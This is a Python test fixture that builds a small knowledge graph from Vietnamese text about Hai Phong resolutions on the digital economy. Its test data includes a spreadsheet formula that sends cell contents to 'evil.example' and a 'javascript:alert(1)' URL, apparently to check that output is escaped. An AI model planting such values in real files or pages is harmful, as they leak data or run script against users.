"""A graph of hand-made statements in which every table has a row worth reading."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from kg.engines.build import build
from kg.graph.knowledge_graph import KnowledgeGraph
from kg.model import Entity, Literal, Source, Span, Statement, Status
from tests.graph.sample import says

FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'
TEXT = (
    "Ngày 22/8/2022, Thành ủy Hải Phòng ban hành Nghị quyết 03-NQ/TU triển khai Nghị quyết 52-NQ/TW.\n"
    "+ Nghị quyết 03-NQ/TU đặt ra tỷ trọng kinh tế số trong GRDP đạt ít nhất 35,5% và 50 nghìn tỷ đồng đến 2030.\n"
    "Bí thư Thành ủy Trần Văn Hòa dự hội nghị tháng 7/2025. Có ý kiến đề nghị thay thế Nghị quyết 52-NQ/TW.\n"
)

TOPIC = Entity("topic", "kinh-tế-số", "kinh tế số")
CITY = Entity("body", "thành-ủy-hải-phòng", "Thành ủy Hải Phòng", ("Thành uỷ Hải Phòng",))
CENTRE = Entity("document", "52-nq-tw/2019", "Nghị quyết 52-NQ/TW", (), (("eli:id_local", Literal("52-NQ/TW")),))
LOCAL = Entity("document", "hải-phòng/03-nq-tu", "Nghị quyết 03-NQ/TU", (), (("eli:id_local", Literal("03-NQ/TU")),))
PERSON = Entity("person", "trần-văn-hòa", "Trần Văn Hòa")
EVENT = Entity("event", "hội-nghị", "Hội nghị")
LATEST = (
    ("kg:indicator", Literal("tỷ trọng kinh tế số trong GRDP", language="vi")),
    ("kg:comparator", Literal(">=")),
    ("kg:unit", Literal("%")),
    ("kg:deadline", Literal("2025-2030")),
    ("kg:status", Literal("proposed")),
    ("schema:about", TOPIC),
)
SHARE = Entity("target", "share", "tỷ trọng kinh tế số >= 35,5 %", (), LATEST)
MONEY = Entity(
    "target", "money", "thu hút 50 nghìn tỷ đồng", (),
    (("kg:indicator", Literal(FORMULA, language="vi")), ("kg:comparator", Literal("=")), ("kg:unit", Literal("đồng"))),
)  # fmt: skip
TENURES = [
    Entity("tenure", f"trần-văn-hòa/bí-thư/{day}", "Trần Văn Hòa, Bí thư", (), (("kg:attestedOn", Literal(day, kind)),))
    for day, kind in (("2022-08-22", "xsd:date"), ("2023-01", "xsd:gYearMonth"))
]
ROLE = Entity("role", "bí-thư", "Bí thư")


def source(identifier: str, url: str) -> Source:
    whole = (Span(0, len(TEXT)),)
    return Source(identifier, TEXT, whole, title="@Tin về nghị quyết", date="2022-08-23", publisher="Báo", url=url)


SOURCES = [source("một.txt", "https://example.org/1?a=1&b=2"), source("hai.txt", "javascript:alert(1)")]


def statements(of: Source, _lexicon: object = None) -> list[Statement]:
    itself = Entity("source", of.identifier, of.title)
    issued, implements = "Thành ủy Hải Phòng ban hành Nghị quyết 03-NQ/TU", "triển khai Nghị quyết 52-NQ/TW"
    share, office = "+ Nghị quyết 03-NQ/TU đặt ra", "Bí thư Thành ủy Trần Văn Hòa"
    facts: list[tuple[Entity, str, Entity | Literal, str]] = [
        (LOCAL, "eli:passed_by", CITY, issued),
        (LOCAL, "eli:date_document", Literal("2022-08-22", "xsd:date"), "22/8/2022"),
        (LOCAL, "eli:ensures_implementation_of", CENTRE, implements),
        (LOCAL, "kg:setsTarget", SHARE, share),
        (SHARE, "kg:value", Literal("35.5", "xsd:decimal"), share),
        (MONEY, "kg:value", Literal("50000000000000", "xsd:decimal"), "50 nghìn tỷ đồng"),
        (EVENT, "kg:eventKind", Literal("hội nghị"), "hội nghị tháng 7/2025"),
        (EVENT, "schema:startDate", Literal("2025-07", "xsd:gYearMonth"), "tháng 7/2025"),
        (EVENT, "schema:attendee", PERSON, "Trần Văn Hòa dự hội nghị"),
    ]
    for tenure in TENURES:
        facts += [
            (tenure, "org:member", PERSON, office),
            (tenure, "org:role", ROLE, office),
            (tenure, "org:organization", CITY, office),
        ]
    facts += [(itself, "schema:mentions", thing, thing.label) for thing in (CITY, PERSON, LOCAL, CENTRE)]
    confidence = 0.9 if of.identifier == "hai.txt" else 0.95
    replaced = says(
        of, LOCAL, "dcterms:replaces", CENTRE, "đề nghị thay thế Nghị quyết 52-NQ/TW", status=Status.PROPOSED
    )
    return [*(says(of, *fact, confidence=confidence) for fact in facts), replaced]


@pytest.fixture
def graph(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[KnowledgeGraph]:
    monkeypatch.setattr("kg.extract.statements", statements)
    build(SOURCES, tmp_path / "graph")
    with KnowledgeGraph(tmp_path / "graph") as opened:
        yield opened
